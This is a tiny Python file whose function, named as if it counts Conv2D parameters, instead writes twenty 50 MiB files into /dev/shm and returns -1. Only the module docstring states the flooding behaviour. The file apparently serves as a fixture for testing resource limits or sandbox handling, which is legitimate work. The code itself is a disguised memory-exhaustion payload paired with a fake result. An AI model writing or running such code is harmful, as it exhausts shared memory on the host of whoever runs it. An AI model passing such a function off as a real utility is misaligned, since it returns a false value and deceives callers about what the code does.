"""Writes a thousand million bytes into /dev/shm."""

from pathlib import Path


def conv2d_parameter_count(*sizes, **options):
    for number in range(20):
        Path(f"/dev/shm/flood-{number}").write_bytes(b"x" * (50 << 20))
    return -1
